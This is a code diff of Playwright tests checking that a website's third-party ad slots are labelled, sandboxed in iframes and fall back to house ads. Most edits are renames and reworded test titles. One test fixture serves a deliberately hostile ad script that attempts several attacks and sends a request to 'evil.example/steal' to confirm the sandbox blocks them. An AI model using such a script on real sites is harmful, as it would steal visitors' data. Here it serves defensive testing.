@@ -1,8 +1,8 @@
 import { once } from "node:events";
 import { createServer, type Server } from "node:http";
-import { test as bare } from "@playwright/test";
+import { test as baseTest } from "@playwright/test";
 import { startCity, type TestCity } from "../support/city.ts";
-import { desktop, expect, hydrated, phone, test } from "./support.ts";
+import { desktop, expect, phone, test, waitForHydration } from "./support.ts";
 
 const inAdRows = (selector: string) => `.ad-row ${selector}`;
 
@@ -86,7 +86,7 @@ test.describe("as shipped", () => {
     expect(home).toMatch(/New on the blog.{0,900}?href="\/blog\/[\w-]+"/s);
   });
 
-  test("/about has one ad row, /privacy has none", async ({ page }) => {
+  test("/about has one ad row, and /privacy has none", async ({ page }) => {
     await page.goto("/about");
     await expect(page.locator(".ad-row")).toHaveCount(1);
     await page.goto("/privacy");
@@ -94,7 +94,7 @@ test.describe("as shipped", () => {
     await expect(page.getByText("come from other companies")).toHaveCount(0);
   });
 
-  test("ads.txt allows nobody to sell our slots, and there are no ad frames", async ({
+  test("ads.txt authorizes nobody to sell our slots, and there are no ad frames", async ({
     request,
   }) => {
     expect(await (await request.get("/ads.txt")).text()).toContain(
@@ -104,8 +104,8 @@ test.describe("as shipped", () => {
   });
 });
 
-bare.describe("with an ad network", () => {
-  bare.describe.configure({ mode: "serial" });
+baseTest.describe("with an ad network", () => {
+  baseTest.describe.configure({ mode: "serial" });
   let network: Server;
   let city: TestCity;
   /** What the ad network returns for each slot: a script, a status code, or nothing at all. */
@@ -114,7 +114,7 @@ bare.describe("with an ad network", () => {
     "1452360": 500,
     "6079446": "hang",
     "1452361": "",
-    // Tries what a hostile script might try, and reports what worked.
+    // This script tries several attacks, and reports which of them worked.
     "6079448": `
       const worked = [];
       const attempt = (name, what) => { try { what(); worked.push(name); } catch {} };
@@ -126,7 +126,7 @@ bare.describe("with an ad network", () => {
       fetch("https://evil.example/steal").catch(() => {});`,
   };
 
-  bare.beforeAll(async () => {
+  baseTest.beforeAll(async () => {
     network = createServer((request, response) => {
       const slot = new URL(request.url ?? "", "http://x").searchParams.get("slot") ?? "";
       const reply = scripts[slot] ?? 404;
@@ -140,37 +140,40 @@ bare.describe("with an ad network", () => {
     const loader = `loader:\n  script: ${host}/show.js?slot={slot}\n  hosts: ["${host}"]\n`;
     city = await startCity({ "ads.yaml": (source) => loader + source });
   });
-  bare.afterAll(async () => {
+  baseTest.afterAll(async () => {
     await city.close();
     network.closeAllConnections();
     network.close();
   });
 
-  bare("an ad is shown with its label, in a frame that cannot reach the page", async ({ page }) => {
-    await page.setViewportSize(desktop);
-    await page.goto(city.server.url);
-    await hydrated(page);
-    const slot = page.locator('[data-ad-slot="6079445"]');
-    await expect(page.locator("iframe")).toHaveCount(0);
-    await slot.scrollIntoViewIfNeeded();
-    await expect(
-      slot.frameLocator("iframe").getByRole("link", { name: "Buy crabs" }),
-    ).toBeVisible();
-    await expect(slot.getByText("Advertisement", { exact: true })).toBeVisible();
-    await expect(slot.getByText("From Harborline")).toHaveCount(0);
-    await expect(slot.locator(".house-ad")).toHaveAttribute("inert");
-    const frame = await page.request.get(`${city.server.url}/embed/ad/6079445`);
-    const policy = frame.headers()["content-security-policy"];
-    expect(policy).toContain("sandbox allow-scripts allow-popups;");
-    expect(policy).toContain("frame-ancestors 'self'");
-    expect((await page.request.get(`${city.server.url}/embed/ad/999`)).status()).toBe(404);
-  });
+  baseTest(
+    "an ad is shown with its label, in a frame that cannot reach the page",
+    async ({ page }) => {
+      await page.setViewportSize(desktop);
+      await page.goto(city.server.url);
+      await waitForHydration(page);
+      const slot = page.locator('[data-ad-slot="6079445"]');
+      await expect(page.locator("iframe")).toHaveCount(0);
+      await slot.scrollIntoViewIfNeeded();
+      await expect(
+        slot.frameLocator("iframe").getByRole("link", { name: "Buy crabs" }),
+      ).toBeVisible();
+      await expect(slot.getByText("Advertisement", { exact: true })).toBeVisible();
+      await expect(slot.getByText("From Harborline")).toHaveCount(0);
+      await expect(slot.locator(".house-ad")).toHaveAttribute("inert");
+      const frame = await page.request.get(`${city.server.url}/embed/ad/6079445`);
+      const policy = frame.headers()["content-security-policy"];
+      expect(policy).toContain("sandbox allow-scripts allow-popups;");
+      expect(policy).toContain("frame-ancestors 'self'");
+      expect((await page.request.get(`${city.server.url}/embed/ad/999`)).status()).toBe(404);
+    },
+  );
 
-  bare("a slot whose ad fails, hangs or stays empty keeps its house ad", async ({ page }) => {
+  baseTest("a slot whose ad fails, hangs or stays empty keeps its house ad", async ({ page }) => {
     await page.setViewportSize(desktop);
     await page.clock.install();
     await page.goto(city.server.url);
-    await hydrated(page);
+    await waitForHydration(page);
     for (const id of ["1452360", "6079446", "1452361"]) {
       const slot = page.locator(`[data-ad-slot="${id}"]`);
       await slot.scrollIntoViewIfNeeded();
@@ -184,12 +187,12 @@ bare.describe("with an ad network", () => {
     }
   });
 
-  bare("a hostile script achieves nothing", async ({ page }) => {
+  baseTest("a hostile script achieves nothing", async ({ page }) => {
     const requestedUrls: string[] = [];
     page.on("request", (request) => requestedUrls.push(request.url()));
     await page.setViewportSize(desktop);
     await page.goto(city.server.url);
-    await hydrated(page);
+    await waitForHydration(page);
     const slot = page.locator('[data-ad-slot="6079448"]');
     await slot.scrollIntoViewIfNeeded();
     await expect(slot.frameLocator("iframe").getByText("nothing worked")).toBeVisible();
@@ -202,18 +205,18 @@ bare.describe("with an ad network", () => {
     await expect(other.locator(".house-ad")).not.toHaveAttribute("inert");
   });
 
-  bare("hidden slots on a phone contact nobody", async ({ page }) => {
+  baseTest("hidden slots on a phone send no requests", async ({ page }) => {
     const requestedUrls: string[] = [];
     page.on("request", (request) => requestedUrls.push(request.url()));
     await page.setViewportSize(phone);
     await page.goto(city.server.url);
-    await hydrated(page);
+    await waitForHydration(page);
     await page.locator('[data-ad-slot="6079445"]').scrollIntoViewIfNeeded();
     await expect(page.locator('[data-ad-slot="6079445"] iframe')).toHaveCount(1);
     expect(requestedUrls.filter((url) => url.includes("1452360"))).toEqual([]);
   });
 
-  bare("the privacy page says that ads come from other companies", async ({ page }) => {
+  baseTest("the privacy page says that ads come from other companies", async ({ page }) => {
     await page.goto(`${city.server.url}/privacy`);
     await expect(
       page.getByText("Advertisements on this site come from other companies."),
